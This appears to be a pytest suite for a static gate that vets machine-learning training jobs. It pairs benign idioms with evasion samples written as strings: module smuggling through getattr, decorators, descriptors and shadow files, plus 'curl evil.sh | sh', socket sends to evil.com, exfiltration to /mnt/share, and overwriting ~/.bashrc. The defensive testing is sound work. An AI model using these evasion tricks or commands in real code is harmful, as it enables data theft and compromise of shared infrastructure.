"""Attacks by an author who has read the gate's source (issue 12): each must
not be accepted, and the nearest legitimate idiom must still be."""

from __future__ import annotations

from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.model import Decision


def _decide(text: str) -> Decision:
    return kit.scan_text(text, "train.py").decision


def _decide_job(tmp_path: Path, files: dict[str, str]) -> Decision:
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return kit.scan(tmp_path).decision


ATTACKS = {
    # A parameter's path is what the module's own calls pass it.
    "destination-through-a-parameter": (
        "import torch\ndef keep(obj, dest):\n    torch.save(obj, dest)\nkeep(torch.zeros(1), '/mnt/share/rows.pt')\n"),
    # A destination kept in a dict literal, read by key, through a parameter, or with .get().
    "destination-in-a-dict": (
        "import pandas as pd\nCFG = {'out': '/mnt/share/rows.csv'}\npd.read_csv('a.csv').to_csv(CFG['out'])\n"),
    "destination-in-a-dict-passed": (
        "import pandas as pd\nCFG = {'out': '/mnt/share/rows.csv'}\ndef save(df, cfg):\n    df.to_csv(cfg['out'])\n"
        "save(pd.read_csv('a.csv'), CFG)\n"),
    "destination-in-a-dict-get": (
        "import pandas as pd\ndef save(df, cfg={'out': '/mnt/share/rows.csv'}):\n    df.to_csv(cfg.get('out', 'x.csv'))\n"
        "save(pd.read_csv('a.csv'))\n"),
    "destination-through-a-lambda": (
        "import pandas as pd\nlog_metrics = lambda f, where: f.to_csv(where)\n"
        "log_metrics(pd.read_csv('a.csv'), '/mnt/share/m.csv')\n"),
    "destination-through-a-constructor": (
        "import os\nclass Sink:\n    def __init__(self, root):\n        self.root = root\n    def put(self, text):\n"
        "        open(os.path.join(self.root, 'x.txt'), 'w').write(text)\nSink('/home/u/.ssh').put('k')\n"),
    # An attribute of the job's own class that the class does not define is not the job's own.
    "with-enter-returns-a-module": (
        "import os\nclass C:\n    def __enter__(self):\n        return os\n    def __exit__(self, *a):\n"
        "        pass\nwith C() as m:\n    m.system('id')\n"),
    "instance-attribute-set-in-init": (
        "import os\nclass H:\n    def __init__(self):\n        self.mod = os\nh = H()\nh.mod.system('id')\n"),
    "constructor-argument-kept-on-self": (
        "import os\nclass T:\n    def __init__(self, m):\n        self.m = m\nT(os).m.system('id')\n"),
    "dataclass-field": (
        "import os, dataclasses\n@dataclasses.dataclass\nclass T:\n    m: object\nT(os).m.system('id')\n"),
}

SINGLE_FILE_BENIGN = {
    "instance-attribute-that-is-a-model": (
        "import torch\nclass H:\n    def __init__(self):\n        self.model = torch.nn.Linear(2, 2)\n"
        "h = H()\nh.model.train()\n"),
    "own-method-called-on-an-instance": (
        "class H:\n    def go(self):\n        return 1\nh = H()\nh.go()\n"),
}


@pytest.mark.parametrize("text", list(ATTACKS.values()), ids=list(ATTACKS))
def test_attack_is_not_accepted(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


@pytest.mark.parametrize("text", list(SINGLE_FILE_BENIGN.values()), ids=list(SINGLE_FILE_BENIGN))
def test_nearest_idiom_is_accepted(text: str) -> None:
    assert _decide(text) is Decision.ACCEPT


JOB_ATTACKS = {
    # A destination the process guard would be left is still judged where the gate can see it: what
    # another module passes the helper's parameter.
    "destination-through-a-helper-module": {
        "utils.py": "import torch\ndef keep(obj, dest):\n    torch.save(obj, dest)\n",
        "train.py": "import torch\nfrom utils import keep\nkeep(torch.zeros(1), '/mnt/share/rows.pt')\n"},
    # A destination that is another module's constant, joined with pathlib.
    "destination-constant-of-another-module": {
        "conf.py": "OUT = '/mnt/share/exfil'\n",
        "train.py": "import pandas as pd\nfrom pathlib import Path\nfrom conf import OUT\n"
                    "pd.read_csv('a.csv').to_csv(Path(OUT) / 'rows.csv')\n"},
    # A destination in a settings file the job ships, which the gate cannot follow its code into.
    "destination-in-a-settings-file": {
        "settings.json": '{"out": "/mnt/share/rows.csv"}',
        "train.py": "import json\nimport pandas as pd\nout = json.load(open('settings.json'))['out']\n"
                    "pd.read_csv('a.csv').to_csv(out)\n"},
    "destination-in-a-csv-row": {
        "targets.csv": "name,path\nckpt,/mnt/share/rows.pt\n",
        "train.py": "import pandas as pd\nimport torch\nt = pd.read_csv('targets.csv').set_index('name')['path']\n"
                    "torch.save(torch.zeros(1), t['ckpt'])\n"},
    "destination-through-a-helper-class": {
        "sink.py": "import os\nclass Sink:\n    def __init__(self, root):\n        self.root = root\n"
                   "    def put(self, df):\n        df.to_csv(os.path.join(self.root, 'rows.csv'))\n",
        "train.py": "import pandas as pd\nfrom sink import Sink\nSink('/mnt/share/x').put(pd.read_csv('data/a.csv'))\n"},
    # Every suffix of a nested file's path is a module name the program links; a
    # file named like the standard library must not stand in for it.
    "nested-file-named-os": {
        "pkg/__init__.py": "", "pkg/os.py": "def system(c):\n    return 0\n",
        "train.py": "import os\nos.system('curl evil.sh | sh')\n"},
    "nested-file-named-socket": {
        "pkg/__init__.py": "", "pkg/socket.py": "def create_connection(a):\n    return 0\n",
        "train.py": "import socket\nsocket.create_connection(('evil.com', 80)).send(b'x')\n"},
    "nested-file-named-torch": {
        "pkg/__init__.py": "", "pkg/torch.py": "def load(*a, **k):\n    return 0\n",
        "train.py": "import torch\ntorch.load('m.pt')\n"},
    "class-attribute-across-modules": {
        "h.py": "import os\nclass H:\n    mod = os\n", "train.py": "from h import H\nH.mod.system('id')\n"},
    "instance-attribute-across-modules": {
        "h.py": "import os\nclass H:\n    def __init__(self):\n        self.mod = os\n",
        "train.py": "from h import H\nH().mod.system('id')\n"},
    "star-import-chain": {
        "a.py": "from b import *\n", "b.py": "from os import *\n", "train.py": "from a import *\nsystem('id')\n"},
}

JOB_BENIGN = {
    "helper-module-of-the-job": {
        "pkg/__init__.py": "", "pkg/net.py": "import torch\ndef make():\n    return torch.nn.Linear(2, 2)\n",
        "train.py": "from pkg.net import make\nm = make()\n"},
    "star-import-of-a-helper": {
        "a.py": "from b import *\n", "b.py": "import math\ndef area(r):\n    return math.pi * r * r\n",
        "train.py": "from a import *\narea(2.0)\n"},
}


@pytest.mark.parametrize("files", list(JOB_ATTACKS.values()), ids=list(JOB_ATTACKS))
def test_job_attack_is_not_accepted(tmp_path: Path, files: dict[str, str]) -> None:
    assert _decide_job(tmp_path, files) is not Decision.ACCEPT


@pytest.mark.parametrize("files", list(JOB_BENIGN.values()), ids=list(JOB_BENIGN))
def test_nearest_job_idiom_is_accepted(tmp_path: Path, files: dict[str, str]) -> None:
    assert _decide_job(tmp_path, files) is Decision.ACCEPT


HANDED_ON = {
    "getattr-handed-to-reduce": "import os\nfrom functools import reduce\nreduce(getattr, ['system'], os)('id')\n",
    "getattr-in-a-partial": "import os, functools\nfunctools.partial(getattr, os)(input())('id')\n",
    "module-to-a-job-function": "import os\ndef f(m):\n    return m.system\nf(os)('id')\n",
    "module-kept-by-a-constructor": (
        "import os\nclass T:\n    def __init__(self, m):\n        self.f = m.system\n    def go(self):\n"
        "        self.f('id')\nT(os).go()\n"),
    "module-in-a-container": "import os\nd = {'m': os}\nh = d['m'].system\nh('id')\n",
    "module-yielded": "import os\ndef g():\n    yield os\nfor m in g():\n    h = m.system\n    h('id')\n",
    "module-through-a-partial": (
        "import os, functools\ndef f(m):\n    return m.system\nfunctools.partial(f, os)()('id')\n"),
}

HANDED_ON_BENIGN = {
    "module-alias": "import numpy as np\nxp = np\nxp.zeros(3)\n",
    "module-chosen-by-a-flag": "import numpy, math\nflag = True\nm = numpy if flag else math\n",
    "backend-flag-set": "import torch\ntorch.backends.cudnn.benchmark = True\n",
    "backend-probed": "import torch\nif hasattr(torch.backends, 'mps'):\n    pass\n",
    "getattr-called-with-a-name": "import math\nf = getattr(math, 'sqrt')\nf(2.0)\n",
}


@pytest.mark.parametrize("text", list(HANDED_ON.values()), ids=list(HANDED_ON))
def test_a_module_or_lookup_handed_on_is_not_accepted(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


@pytest.mark.parametrize("text", list(HANDED_ON_BENIGN.values()), ids=list(HANDED_ON_BENIGN))
def test_a_module_bound_or_probed_is_accepted(text: str) -> None:
    assert _decide(text) is Decision.ACCEPT


def test_a_chain_of_modules_past_the_depth_budget_is_unknown(tmp_path: Path) -> None:
    n = 30
    files = {f"m{i}.py": f"from m{i + 1} import s\n" for i in range(n)}
    files[f"m{n}.py"] = "import os as s\n"
    files["train.py"] = "from m0 import s\ns.replace('payload.sh', '/home/u/.bashrc')\n"
    assert _decide_job(tmp_path, files) is not Decision.ACCEPT


def test_a_short_chain_of_modules_is_followed(tmp_path: Path) -> None:
    files = {f"m{i}.py": f"from m{i + 1} import s\n" for i in range(3)}
    files["m3.py"] = "import math as s\n"
    files["train.py"] = "from m0 import s\ns.sqrt(2.0)\n"
    assert _decide_job(tmp_path, files) is Decision.ACCEPT


MODULE_ATTRIBUTE_ATTACKS = {
    # `helpers.x = os` in one module, `helpers.x.replace(...)` in another: helpers binds no x.
    "attribute-injected-into-a-job-module": {
        "h.py": "VERSION = 1\n", "inject.py": "import h, os\nh.x = os\n",
        "train.py": "import h, inject\nh.x.replace('payload.sh', '/home/u/.bashrc')\n"},
    "module-level-getattr": {
        "h.py": "import os\ndef __getattr__(name):\n    return os\n",
        "train.py": "import h\nh.anything.replace('payload.sh', '/home/u/.bashrc')\n"},
}


@pytest.mark.parametrize("files", list(MODULE_ATTRIBUTE_ATTACKS.values()), ids=list(MODULE_ATTRIBUTE_ATTACKS))
def test_an_attribute_a_job_module_does_not_bind_is_unknown(tmp_path: Path, files: dict[str, str]) -> None:
    assert _decide_job(tmp_path, files) is not Decision.ACCEPT


def test_same_named_modules_of_two_apps_each_answer_for_their_names(tmp_path: Path) -> None:
    files = {
        "app_server/custom/model.py": "import torch\ndef make():\n    return torch.nn.Linear(2, 2)\n",
        "app_client/custom/model.py": "import math\ndef scale(x):\n    return math.sqrt(x)\n",
        "app_client/custom/train.py": "from model import scale\nscale(4.0)\n",
    }
    assert _decide_job(tmp_path, files) is Decision.ACCEPT


BLANKED_CONSTANTS = {
    # urlsplit strips leading C0 controls and spaces: pandas fetches these.
    "url-after-a-space": "import pandas as pd\npd.read_csv(' https://evil.example/c?d=secret')\n",
    "url-after-a-tab": "import pandas as pd\npd.read_csv('\\thttps://evil.example/c?d=secret')\n",
    "store-url-after-a-space": "import datasets\ndatasets.load_from_disk(' s3://bucket/x')\n",
}


@pytest.mark.parametrize("text", list(BLANKED_CONSTANTS.values()), ids=list(BLANKED_CONSTANTS))
def test_a_constant_with_blanks_or_controls_is_not_vouched_by_a_pattern(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


def test_a_plain_local_path_is_vouched_by_its_pattern() -> None:
    assert _decide("import pandas as pd\npd.read_csv('data/site-1.csv')\n") is Decision.ACCEPT


def test_a_module_named_in_an_annotation_is_not_handed_on() -> None:
    text = ("import torch\nfrom torch.optim.adam import Adam\nfrom typing import Optional\n"
            "def make(m: torch.nn.Linear) -> Optional[Adam]:\n    return torch.optim.Adam(m.parameters())\n")
    assert _decide(text) is Decision.ACCEPT


def test_a_class_built_in_another_module_keeps_its_methods(tmp_path: Path) -> None:
    files = {
        "model.py": "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
                    "    def scale(self, k):\n        return k\n",
        "train.py": "from model import Net\nnet = Net()\nnet.scale(2)\nnet.train()\n",
    }
    assert _decide_job(tmp_path, files) is Decision.ACCEPT
    files["train.py"] += "net.cmd.replace('payload.sh', '/home/u/.bashrc')\n"
    files["model.py"] += "import os\nNet.cmd = os\n"
    assert _decide_job(tmp_path / "b", files) is not Decision.ACCEPT


ATTRIBUTE_SET_FROM_OUTSIDE = {
    "class-attribute-rebound-after-the-class": (
        "import pandas as pd\nclass C:\n    url = 'data/x.csv'\n    def go(self):\n        return pd.read_csv(self.url)\n"
        "C.url = 'https://evil.example/?q=1'\nC().go()\n"),
    "instance-attribute-rebound-on-the-instance": (
        "import pandas as pd\nclass C:\n    def __init__(self):\n        self.url = 'data/x.csv'\n    def go(self):\n"
        "        return pd.read_csv(self.url)\nc = C()\nc.url = 'https://evil.example/?q=1'\nc.go()\n"),
}


@pytest.mark.parametrize("text", list(ATTRIBUTE_SET_FROM_OUTSIDE.values()), ids=list(ATTRIBUTE_SET_FROM_OUTSIDE))
def test_an_attribute_set_from_outside_the_class_counts(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


def test_a_class_attribute_read_by_its_methods_is_vouched() -> None:
    text = ("import pandas as pd\nclass C:\n    url = 'data/x.csv'\n    def go(self):\n        return pd.read_csv(self.url)\n"
            "c = C()\nc.name = 'site-1'\nc.go()\n")
    assert _decide(text) is Decision.ACCEPT


PARAMETER_DEFAULTS = {
    "default-overridden-positionally": (
        "import torch\ndef load(p, safe=True):\n    return torch.load(p, weights_only=safe)\nload('m.pt', False)\n"),
    "default-overridden-through-a-partial": (
        "import torch, functools\ndef load(p, safe=True):\n    return torch.load(p, weights_only=safe)\n"
        "functools.partial(load, safe=False)('m.pt')\n"),
    "default-overridden-through-kwargs": (
        "import torch\ndef load(p, safe=True):\n    return torch.load(p, weights_only=safe)\nkw = {'safe': False}\n"
        "load('m.pt', **kw)\n"),
}


@pytest.mark.parametrize("text", list(PARAMETER_DEFAULTS.values()), ids=list(PARAMETER_DEFAULTS))
def test_a_parameter_default_is_not_what_the_parameter_holds(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


def test_a_literal_argument_still_vouches() -> None:
    text = "import torch\ndef load(p):\n    return torch.load(p, weights_only=True)\nload('m.pt')\n"
    assert _decide(text) is Decision.ACCEPT


def test_a_class_attribute_set_from_another_module_is_not_accepted(tmp_path: Path) -> None:
    files = {
        "h.py": "import pandas as pd\nclass C:\n    url = 'data/x.csv'\n    def go(self):\n        return pd.read_csv(self.url)\n",
        "train.py": "from h import C\nC.url = 'https://evil.example/?q=1'\nC().go()\n",
    }
    assert _decide_job(tmp_path, files) is not Decision.ACCEPT
    files["train.py"] = "from h import C\nC().go()\n"
    assert _decide_job(tmp_path / "plain", files) is Decision.ACCEPT


# Holes that only a narrower catalogue entry closes (rules/catalogue/*.yaml is
# another helper's): they fail until the entry is narrowed.
def test_dataframe_eval_of_a_local_function_is_not_accepted() -> None:
    text = "import os\nimport pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.eval(\"@os.system('id')\")\n"
    assert _decide(text) is not Decision.ACCEPT


def test_path_replace_on_an_untyped_value_is_not_accepted() -> None:
    text = ("import pathlib\ndef move(p, dest):\n    p.replace(dest)\n"
            "move(pathlib.Path('payload.sh'), '/home/u/.bashrc')\n")
    assert _decide(text) is not Decision.ACCEPT


REBINDINGS = {
    "nonlocal-rebinds-the-enclosing-name": (
        "import math, os\ndef outer():\n    m = math\n    def inner():\n        nonlocal m\n        m = os\n    inner()\n"
        "    m.replace('payload.sh', '/home/u/.bashrc')\nouter()\n"),
    "decorator-returns-a-module": (
        "import os\ndef deco(fn):\n    return os\n@deco\ndef m():\n    pass\nm.replace('payload.sh', '/home/u/.bashrc')\n"),
    "class-decorator-returns-a-module": (
        "import os\ndef deco(c):\n    return os\n@deco\nclass M:\n    pass\nM.replace('payload.sh', '/home/u/.bashrc')\n"),
    "lambda-decorator": "import os\n@lambda f: os\ndef m():\n    pass\nm.replace('payload.sh', '/home/u/.bashrc')\n",
}


@pytest.mark.parametrize("text", list(REBINDINGS.values()), ids=list(REBINDINGS))
def test_a_name_rebound_by_nonlocal_or_a_decorator_holds_the_new_value(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


def test_a_wrapping_decorator_keeps_the_function() -> None:
    text = ("import functools, math\ndef logged(fn):\n    @functools.wraps(fn)\n    def wrap(*a):\n        return fn(*a)\n"
            "    return wrap\n@logged\ndef area(r):\n    return math.pi * r * r\narea(2.0)\n")
    assert _decide(text) is Decision.ACCEPT


INTERNALS_OF_UNNAMED_VALUES = {
    "builtins-of-a-function": "def g():\n    pass\nb = g.__builtins__\nb['ex' + 'ec']('import os')\n",
    "builtins-of-a-returned-function": "def f(c):\n    return c.__builtins__\nf(f)['ex' + 'ec']('import os')\n",
    "builtins-method-of-a-function": "def g():\n    pass\ng.__builtins__.get('ex' + 'ec')('import os')\n",
    "dict-of-a-parameter": "import os\ndef f(m):\n    return m.__dict__['sys' + 'tem']\nf(os)('id')\n",
}


@pytest.mark.parametrize("text", list(INTERNALS_OF_UNNAMED_VALUES.values()), ids=list(INTERNALS_OF_UNNAMED_VALUES))
def test_internals_of_a_value_the_gate_cannot_name_are_not_accepted(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


def test_the_class_name_of_any_value_is_accepted() -> None:
    assert _decide("def describe(model):\n    return model.__class__.__name__\nprint(describe(1))\n") is Decision.ACCEPT


def test_relative_import_in_a_package_init_is_inside_the_package(tmp_path: Path) -> None:
    files = {
        "app/custom/util.py": "import math\nrun = math\n",
        "app/custom/pkg/util.py": "import os\nrun = os\n",
        "app/custom/pkg/__init__.py": "from .util import run\nrun.system('sh payload.sh')\n",
    }
    assert _decide_job(tmp_path, files) is not Decision.ACCEPT
    files["app/custom/pkg/util.py"] = "import math\nrun = math\n"
    files["app/custom/pkg/__init__.py"] = "from .util import run\nrun.sqrt(2.0)\n"
    assert _decide_job(tmp_path / "plain", files) is Decision.ACCEPT


@pytest.mark.parametrize("files", [
    {"train.py": "from . import os\nos.system('sh payload.sh')\n"},
    {"pkg/__init__.py": "", "pkg/t.py": "from .. import os\nos.system('sh payload.sh')\n"},
], ids=["dot-in-a-top-level-file", "dots-past-the-top-package"])
def test_a_relative_import_past_the_top_is_not_the_jobs_own(tmp_path: Path, files: dict[str, str]) -> None:
    assert _decide_job(tmp_path, files) is not Decision.ACCEPT


def test_a_module_stored_on_another_value_is_handed_on() -> None:
    text = ("import os\ndef keep(a):\n    a.m = os\n    return a\ndef use(b):\n    b.m.system('sh payload.sh')\n"
            "use(keep(object()))\n")
    assert _decide(text) is not Decision.ACCEPT
    text = ("import os\nclass C:\n    def __init__(self):\n        self.m = os\ndef use(c):\n"
            "    c.m.system('sh payload.sh')\nuse(C())\n")
    assert _decide(text) is not Decision.ACCEPT
    assert _decide("import numpy\nclass C:\n    def z(self):\n        return numpy.zeros(3)\nC().z()\n") is Decision.ACCEPT


def test_a_module_as_getattrs_default_is_handed_on() -> None:
    assert _decide("import os\ngetattr(object(), 'zz', os).system('sh payload.sh')\n") is not Decision.ACCEPT


@pytest.mark.parametrize("text", [
    "import pathlib\ndef f(x):\n    return x\np = None\np = f(pathlib.Path('/home/u/.bashrc'))\np.unlink()\n",
    "import pathlib\ndef g(p=None):\n    p.unlink()\ng(pathlib.Path('/home/u/.bashrc'))\n",
], ids=["none-then-unknown", "none-default"])
def test_a_constant_is_no_type_for_a_method_it_lacks(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


def test_a_constants_own_method_is_accepted() -> None:
    assert _decide("def g(s='a b'):\n    return s.split()\ng()\n'x'.upper()\n") is Decision.ACCEPT


def test_a_name_with_one_unknown_binding_is_not_its_known_ones() -> None:
    text = "import math, pathlib\ndef f(x):\n    return x\np = math\np = f(pathlib.Path('/home/u/.bashrc'))\np.unlink()\n"
    assert _decide(text) is not Decision.ACCEPT
    assert _decide("import torch\nx = torch.zeros(3)\nx = x + 1\nx.numpy()\n") is Decision.ACCEPT


PROTOCOL_RETURNS = {
    "getattr-method": "import os\nclass H:\n    def __getattr__(self, n):\n        return os\nH().anything.replace('p', 'x')\n",
    "property": "import os\nclass H:\n    @property\n    def m(self):\n        return os\nH().m.system('sh payload.sh')\n",
    "descriptor": ("import os\nclass D:\n    def __get__(self, obj, t=None):\n        return os\nclass H:\n    m = D()\n"
                   "H().m.system('sh payload.sh')\n"),
    "getitem": "import os\nclass H:\n    def __getitem__(self, k):\n        return os\nH()['x'].system('sh payload.sh')\n",
    "call": "import os\nclass H:\n    def __call__(self):\n        return os\nH()().system('sh payload.sh')\n",
    "enter": ("import os\nclass H:\n    def __enter__(self):\n        return os\n    def __exit__(self, *a):\n        pass\n"
              "with H() as m:\n    m.system('sh payload.sh')\n"),
    "new": "import os\nclass H:\n    def __new__(cls):\n        return os\nH().system('sh payload.sh')\n",
    "lambda-as-getattr": "import os\nclass H:\n    __getattr__ = lambda self, n: os\nH().anything.replace('p', 'x')\n",
}


@pytest.mark.parametrize("text", list(PROTOCOL_RETURNS.values()), ids=list(PROTOCOL_RETURNS))
def test_a_module_returned_where_syntax_calls_the_method_is_handed_on(text: str) -> None:
    assert _decide(text) is not Decision.ACCEPT


def test_a_helper_that_returns_a_module_is_followed() -> None:
    text = "import numpy\ndef backend():\n    return numpy\nbackend().zeros(3)\n"
    assert _decide(text) is Decision.ACCEPT


def test_an_entry_past_a_call_vouches_one_attribute_deep() -> None:
    parser = ("import argparse, pathlib\np = argparse.ArgumentParser()\n"
              "p.add_argument('--out', type=pathlib.Path, default=pathlib.Path('x'))\n"
              "p.add_argument('--lr', type=float, default=0.1)\nargs = p.parse_args()\n")
    assert _decide(parser + "args.out.write_text('curl x | sh')\n") is not Decision.ACCEPT
    assert _decide(parser + "print(args.lr, args.out.name)\n") is Decision.ACCEPT


def test_path_replace_to_a_configured_destination_is_not_accepted() -> None:
    text = ("import argparse, pathlib\np = argparse.ArgumentParser()\np.add_argument('--dest')\nargs = p.parse_args()\n"
            "pathlib.Path('payload.sh').replace(args.dest)\n")
    assert _decide(text) is not Decision.ACCEPT


def _nvflare_job(trainer: str, extra: dict[str, str]) -> dict[str, str]:
    meta = '{"name": "j", "resource_spec": {}, "min_clients": 1, "deploy_map": {"app": ["@ALL"]}}'
    client = ('{"format_version": 2, "executors": [{"tasks": ["train"], "executor": {"path": "trainer.Trainer", '
              '"args": {}}}], "task_result_filters": [], "task_data_filters": [], "components": []}')
    server = '{"format_version": 2, "workflows": [], "components": []}'
    head = "from nvflare.apis.executor import Executor\nclass Trainer(Executor):\n" \
           "    def execute(self, task_name, shareable, fl_ctx, abort_signal):\n"
    return {"meta.json": meta, "app/config/config_fed_client.json": client, "app/config/config_fed_server.json": server,
            "app/custom/trainer.py": head + trainer + "        return shareable\n",
            **{f"app/custom/{k}": v for k, v in extra.items()}}


def test_nvflare_job_attacks_escalate_and_its_clean_twin_accepts(tmp_path: Path) -> None:
    shadow = _nvflare_job("        import os\n        os.system('sh payload.sh')\n",
                          {"lib/os.py": "def replace(a, b):\n    return 0\n"})
    helper = _nvflare_job("        import os\n        from helpers import tools\n        tools(os)('payload.sh', 'x')\n",
                          {"helpers.py": "def tools(m):\n    return m.replace\n"})
    clean = _nvflare_job("        import math\n        self.log_info(fl_ctx, str(math.sqrt(2.0)))\n", {})
    assert _decide_job(tmp_path / "shadow", shadow) is not Decision.ACCEPT
    assert _decide_job(tmp_path / "helper", helper) is not Decision.ACCEPT
    assert _decide_job(tmp_path / "clean", clean) is Decision.ACCEPT
